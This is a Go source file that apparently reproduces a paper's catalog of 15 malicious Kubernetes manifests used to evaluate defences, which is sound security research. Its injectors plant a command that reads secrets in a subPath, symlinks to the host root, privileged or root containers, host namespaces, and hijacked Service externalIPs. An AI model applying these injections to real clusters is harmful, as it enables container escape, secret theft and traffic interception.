@@ -1,0 +1,485 @@
+// Package attacks implements the paper's catalog of 15 malicious
+// Kubernetes specifications (Table II): 8 CVE exploits (E1–E8) and 7
+// misconfigurations (M1–M7). Each entry injects its malicious field into a
+// legitimate manifest taken from an operator's rendered output, producing
+// the attack requests submitted in the Table III experiment.
+package attacks
+
+import (
+	"fmt"
+
+	"repro/internal/object"
+)
+
+// Category distinguishes CVE exploits from misconfigurations.
+type Category string
+
+// Attack categories.
+const (
+	Exploit          Category = "exploit"
+	Misconfiguration Category = "misconfiguration"
+)
+
+// Attack is one catalog entry.
+type Attack struct {
+	// ID is the paper's identifier (E1–E8, M1–M7).
+	ID string
+	// Name describes the exploit or misconfiguration.
+	Name string
+	// CVE is the CVE identifier for exploits, "" for misconfigurations.
+	CVE string
+	// Category classifies the entry.
+	Category Category
+	// TargetFields lists the API fields abused (Table II column 3).
+	TargetFields []string
+	// Kinds lists the resource kinds the malicious field applies to.
+	Kinds []string
+	// Reference cites the paper's source for the entry.
+	Reference string
+	// Inject mutates a legitimate manifest of an applicable kind into the
+	// malicious request.
+	Inject func(o object.Object) error
+}
+
+// podBearingKinds are the kinds embedding a PodSpec (Table II: "Pod and
+// higher-level abstractions like Deployment, ReplicaSet, StatefulSet, and
+// DaemonSet").
+func podBearingKinds() []string {
+	return []string{"Pod", "Deployment", "StatefulSet", "DaemonSet", "ReplicaSet", "Job", "CronJob"}
+}
+
+// PodSpecPath returns the dotted path of the PodSpec within a kind, or
+// false if the kind embeds none.
+func PodSpecPath(kind string) (string, bool) {
+	switch kind {
+	case "Pod":
+		return "spec", true
+	case "Deployment", "StatefulSet", "DaemonSet", "ReplicaSet", "Job":
+		return "spec.template.spec", true
+	case "CronJob":
+		return "spec.jobTemplate.spec.template.spec", true
+	default:
+		return "", false
+	}
+}
+
+// podSpec resolves the PodSpec map of a manifest.
+func podSpec(o object.Object) (map[string]any, error) {
+	path, ok := PodSpecPath(o.Kind())
+	if !ok {
+		return nil, fmt.Errorf("attacks: kind %s has no pod spec", o.Kind())
+	}
+	spec, ok := object.GetMap(o, path)
+	if !ok {
+		return nil, fmt.Errorf("attacks: %s %s: no pod spec at %s", o.Kind(), o.Name(), path)
+	}
+	return spec, nil
+}
+
+// containers returns the PodSpec's main containers.
+func containers(o object.Object) ([]map[string]any, error) {
+	spec, err := podSpec(o)
+	if err != nil {
+		return nil, err
+	}
+	items, ok := spec["containers"].([]any)
+	if !ok || len(items) == 0 {
+		return nil, fmt.Errorf("attacks: %s %s has no containers", o.Kind(), o.Name())
+	}
+	out := make([]map[string]any, 0, len(items))
+	for _, it := range items {
+		m, ok := it.(map[string]any)
+		if !ok {
+			return nil, fmt.Errorf("attacks: malformed container entry")
+		}
+		out = append(out, m)
+	}
+	return out, nil
+}
+
+func securityContext(c map[string]any) map[string]any {
+	sc, ok := c["securityContext"].(map[string]any)
+	if !ok {
+		sc = map[string]any{}
+		c["securityContext"] = sc
+	}
+	return sc
+}
+
+// setPodSpecField writes a field at the PodSpec level.
+func setPodSpecField(o object.Object, field string, v any) error {
+	spec, err := podSpec(o)
+	if err != nil {
+		return err
+	}
+	spec[field] = v
+	return nil
+}
+
+// Catalog returns the 15 attacks of Table II, in paper order.
+func Catalog() []Attack {
+	return []Attack{
+		{
+			ID:           "E1",
+			Name:         "Activation of hostNetwork",
+			CVE:          "CVE-2020-15257",
+			Category:     Exploit,
+			TargetFields: []string{"hostNetwork"},
+			Kinds:        podBearingKinds(),
+			Reference:    "https://nvd.nist.gov/vuln/detail/cve-2020-15257",
+			Inject: func(o object.Object) error {
+				// containerd-shim abstract socket reachable from host netns.
+				return setPodSpecField(o, "hostNetwork", true)
+			},
+		},
+		{
+			ID:           "E2",
+			Name:         "Abusing LoadBalancer or ExternalIPs",
+			CVE:          "CVE-2020-8554",
+			Category:     Exploit,
+			TargetFields: []string{"externalIPs"},
+			Kinds:        []string{"Service"},
+			Reference:    "https://nvd.nist.gov/vuln/detail/cve-2020-8554",
+			Inject: func(o object.Object) error {
+				// Man-in-the-middle via patched Service externalIPs.
+				return object.Set(o, "spec.externalIPs", []any{"203.0.113.7"})
+			},
+		},
+		{
+			ID:       "E3",
+			Name:     "Command injection via volume and volumeMounts",
+			CVE:      "CVE-2023-3676",
+			Category: Exploit,
+			TargetFields: []string{
+				"containers.volumeMounts.subPath",
+				"containers.volumes.subPath",
+			},
+			Kinds:     podBearingKinds(),
+			Reference: "https://nvd.nist.gov/vuln/detail/cve-2023-3676",
+			Inject: func(o object.Object) error {
+				cs, err := containers(o)
+				if err != nil {
+					return err
+				}
+				cs[0]["volumeMounts"] = append(volumeMountsOf(cs[0]), map[string]any{
+					"name":      "kf-e3",
+					"mountPath": "/injected",
+					"subPath":   `$(Get-Content C:\\secrets)`,
+				})
+				return appendVolume(o, map[string]any{
+					"name":     "kf-e3",
+					"emptyDir": map[string]any{},
+				})
+			},
+		},
+		{
+			ID:           "E4",
+			Name:         "Mount subPath on a file or emptyDir",
+			CVE:          "CVE-2017-1002101",
+			Category:     Exploit,
+			TargetFields: []string{"containers.volumeMounts.subPath"},
+			Kinds:        podBearingKinds(),
+			Reference:    "https://nvd.nist.gov/vuln/detail/cve-2017-1002101",
+			Inject: func(o object.Object) error {
+				// The paper's Fig. 4: init container plants a symlink to /,
+				// main container mounts it as a subPath.
+				spec, err := podSpec(o)
+				if err != nil {
+					return err
+				}
+				spec["initContainers"] = []any{map[string]any{
+					"name":    "busybox",
+					"image":   "busybox",
+					"command": []any{"ln", "-s", "/", "/mnt/data/symlink-door"},
+					"volumeMounts": []any{map[string]any{
+						"name":      "kf-e4",
+						"mountPath": "/mnt/data",
+					}},
+				}}
+				cs, err := containers(o)
+				if err != nil {
+					return err
+				}
+				cs[0]["volumeMounts"] = append(volumeMountsOf(cs[0]), map[string]any{
+					"name":      "kf-e4",
+					"mountPath": "/test",
+					"subPath":   "symlink-door",
+				})
+				return appendVolume(o, map[string]any{
+					"name":     "kf-e4",
+					"emptyDir": map[string]any{},
+				})
+			},
+		},
+		{
+			ID:           "E5",
+			Name:         "Absent Resource Limit",
+			CVE:          "CVE-2019-11253",
+			Category:     Exploit,
+			TargetFields: []string{"containers.resources.limits"},
+			Kinds:        podBearingKinds(),
+			Reference:    "https://nvd.nist.gov/vuln/detail/cve-2019-11253",
+			Inject: func(o object.Object) error {
+				// Strip resource limits so a parsing bomb can exhaust the
+				// node unbounded.
+				cs, err := containers(o)
+				if err != nil {
+					return err
+				}
+				for _, c := range cs {
+					if res, ok := c["resources"].(map[string]any); ok {
+						delete(res, "limits")
+					} else {
+						c["resources"] = map[string]any{}
+					}
+				}
+				return nil
+			},
+		},
+		{
+			ID:           "E6",
+			Name:         "Symlink exchange allows host filesystem access",
+			CVE:          "CVE-2021-25741",
+			Category:     Exploit,
+			TargetFields: []string{"container.command"},
+			Kinds:        podBearingKinds(),
+			Reference:    "https://nvd.nist.gov/vuln/detail/cve-2021-25741",
+			Inject: func(o object.Object) error {
+				cs, err := containers(o)
+				if err != nil {
+					return err
+				}
+				cs[0]["command"] = []any{
+					"sh", "-c",
+					"while true; do ln -sfn / /vol/sym; ln -sfn /dev/null /vol/sym; done",
+				}
+				return nil
+			},
+		},
+		{
+			ID:           "E7",
+			Name:         "Bypass of Seccomp Profile",
+			CVE:          "CVE-2023-2431",
+			Category:     Exploit,
+			TargetFields: []string{"containers.securityContext.seccompProfile.localhostProfile"},
+			Kinds:        podBearingKinds(),
+			Reference:    "https://nvd.nist.gov/vuln/detail/cve-2023-2431",
+			Inject: func(o object.Object) error {
+				cs, err := containers(o)
+				if err != nil {
+					return err
+				}
+				securityContext(cs[0])["seccompProfile"] = map[string]any{
+					"type":             "Localhost",
+					"localhostProfile": "",
+				}
+				return nil
+			},
+		},
+		{
+			ID:           "E8",
+			Name:         "Privileged Containers",
+			CVE:          "CVE-2021-21334",
+			Category:     Exploit,
+			TargetFields: []string{"containers.securityContext.privileged"},
+			Kinds:        podBearingKinds(),
+			Reference:    "https://nvd.nist.gov/vuln/detail/cve-2021-21334",
+			Inject: func(o object.Object) error {
+				cs, err := containers(o)
+				if err != nil {
+					return err
+				}
+				securityContext(cs[0])["privileged"] = true
+				return nil
+			},
+		},
+		{
+			ID:           "M1",
+			Name:         "Activation of hostIPC",
+			Category:     Misconfiguration,
+			TargetFields: []string{"hostIPC"},
+			Kinds:        podBearingKinds(),
+			Reference:    "NSA/CISA Kubernetes Hardening Guide",
+			Inject: func(o object.Object) error {
+				return setPodSpecField(o, "hostIPC", true)
+			},
+		},
+		{
+			ID:           "M2",
+			Name:         "Activation of hostPID",
+			Category:     Misconfiguration,
+			TargetFields: []string{"hostPID"},
+			Kinds:        podBearingKinds(),
+			Reference:    "NSA/CISA Kubernetes Hardening Guide",
+			Inject: func(o object.Object) error {
+				return setPodSpecField(o, "hostPID", true)
+			},
+		},
+		{
+			ID:           "M3",
+			Name:         "Disable Readonly Filesystem",
+			Category:     Misconfiguration,
+			TargetFields: []string{"containers.securityContext.readOnlyRootFilesystem"},
+			Kinds:        podBearingKinds(),
+			Reference:    "NSA/CISA Kubernetes Hardening Guide",
+			Inject: func(o object.Object) error {
+				cs, err := containers(o)
+				if err != nil {
+					return err
+				}
+				securityContext(cs[0])["readOnlyRootFilesystem"] = false
+				return nil
+			},
+		},
+		{
+			ID:       "M4",
+			Name:     "Running Containers as Root",
+			Category: Misconfiguration,
+			TargetFields: []string{
+				"containers.securityContext.runAsNonRoot",
+				"containers.securityContext.runAsRootAllowed",
+			},
+			Kinds:     podBearingKinds(),
+			Reference: "NSA/CISA Kubernetes Hardening Guide",
+			Inject: func(o object.Object) error {
+				cs, err := containers(o)
+				if err != nil {
+					return err
+				}
+				sc := securityContext(cs[0])
+				sc["runAsNonRoot"] = false
+				return nil
+			},
+		},
+		{
+			ID:           "M5",
+			Name:         "Allow Dangerous Capabilities to Containers",
+			Category:     Misconfiguration,
+			TargetFields: []string{"containers.securityContext.capabilities.add"},
+			Kinds:        podBearingKinds(),
+			Reference:    "NSA/CISA Kubernetes Hardening Guide",
+			Inject: func(o object.Object) error {
+				cs, err := containers(o)
+				if err != nil {
+					return err
+				}
+				securityContext(cs[0])["capabilities"] = map[string]any{
+					"add": []any{"SYS_ADMIN", "NET_RAW"},
+				}
+				return nil
+			},
+		},
+		{
+			ID:           "M6",
+			Name:         "Escalated Privileges for Child Container Processes",
+			Category:     Misconfiguration,
+			TargetFields: []string{"containers.securityContext.allowPrivilegeEscalation"},
+			Kinds:        podBearingKinds(),
+			Reference:    "NSA/CISA Kubernetes Hardening Guide",
+			Inject: func(o object.Object) error {
+				cs, err := containers(o)
+				if err != nil {
+					return err
+				}
+				securityContext(cs[0])["allowPrivilegeEscalation"] = true
+				return nil
+			},
+		},
+		{
+			ID:       "M7",
+			Name:     "Custom SELinux user or role",
+			Category: Misconfiguration,
+			TargetFields: []string{
+				"containers.securityContext.seLinuxOptions.user",
+				"containers.securityContext.seLinuxOptions.role",
+			},
+			Kinds:     podBearingKinds(),
+			Reference: "NSA/CISA Kubernetes Hardening Guide",
+			Inject: func(o object.Object) error {
+				cs, err := containers(o)
+				if err != nil {
+					return err
+				}
+				securityContext(cs[0])["seLinuxOptions"] = map[string]any{
+					"user": "system_u",
+					"role": "system_r",
+				}
+				return nil
+			},
+		},
+	}
+}
+
+func volumeMountsOf(c map[string]any) []any {
+	vm, _ := c["volumeMounts"].([]any)
+	return vm
+}
+
+func appendVolume(o object.Object, vol map[string]any) error {
+	spec, err := podSpec(o)
+	if err != nil {
+		return err
+	}
+	vols, _ := spec["volumes"].([]any)
+	spec["volumes"] = append(vols, vol)
+	return nil
+}
+
+// Lookup returns the attack with the given ID.
+func Lookup(id string) (Attack, bool) {
+	for _, a := range Catalog() {
+		if a.ID == id {
+			return a, true
+		}
+	}
+	return Attack{}, false
+}
+
+// Applicable reports whether the attack can be injected into a manifest
+// of the given kind.
+func (a Attack) Applicable(kind string) bool {
+	for _, k := range a.Kinds {
+		if k == kind {
+			return true
+		}
+	}
+	return false
+}
+
+// Craft deep-copies the legitimate manifest and injects the attack.
+func (a Attack) Craft(legit object.Object) (object.Object, error) {
+	if !a.Applicable(legit.Kind()) {
+		return nil, fmt.Errorf("attacks: %s does not apply to kind %s", a.ID, legit.Kind())
+	}
+	evil := legit.DeepCopy()
+	if err := a.Inject(evil); err != nil {
+		return nil, fmt.Errorf("attacks: crafting %s: %w", a.ID, err)
+	}
+	return evil, nil
+}
+
+// SelectTarget picks, from a workload's rendered manifests, the
+// legitimate object the attack is injected into: the first applicable
+// kind in installation-priority order (the paper injects into the
+// resource types that support the malicious field).
+func (a Attack) SelectTarget(objs []object.Object) (object.Object, bool) {
+	// Prefer the primary workload kinds so pod-spec attacks land on the
+	// operator's main controller.
+	preference := []string{"Deployment", "StatefulSet", "Job", "CronJob", "Pod", "Service"}
+	for _, kind := range preference {
+		if !a.Applicable(kind) {
+			continue
+		}
+		for _, o := range objs {
+			if o.Kind() == kind {
+				return o, true
+			}
+		}
+	}
+	for _, o := range objs {
+		if a.Applicable(o.Kind()) {
+			return o, true
+		}
+	}
+	return nil, false
+}
